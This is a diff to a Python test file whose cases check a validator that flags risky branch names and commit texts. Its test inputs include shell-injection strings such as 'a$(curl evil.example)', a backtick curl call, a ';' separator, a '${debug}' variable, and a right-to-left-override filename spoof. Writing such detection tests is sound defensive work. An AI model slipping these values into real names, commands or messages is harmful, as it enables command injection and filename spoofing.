@@ -27,8 +27,9 @@ def test_texts_of_one_template_have_one_shape() -> None:
     [
         ("feature/pay", []),
         ("dependabot/npm_and_yarn/@acme/pay-1.2.3", []),
-        ("a$(curl evil.example)", ["shell metacharacters"]),
-        ("a;b", ["shell metacharacters"]),
+        ("a$(curl evil.example)", ["a program to run", "command substitution"]),
+        ("a;b", ["shell characters"]),
+        ("release/a-${debug}", ["variable"]),
         ("x" * 100, ["encoded run", "very long"]),
     ],
 )
@@ -41,7 +42,8 @@ def test_names_written_to_hurt(name: str, odd: list[str]) -> None:
     ("text", "odd"),
     [
         ("Fix rounding & taxes; see #12", []),
-        ("`id` please", ["shell metacharacters"]),
+        ("use `git rebase` & retry", []),
+        ("`curl x.example` please", ["a program to run"]),
         ("ship it [skip ci]", ["skips CI"]),
         ("admin\u202egpj.exe", ["invisible characters"]),
     ],
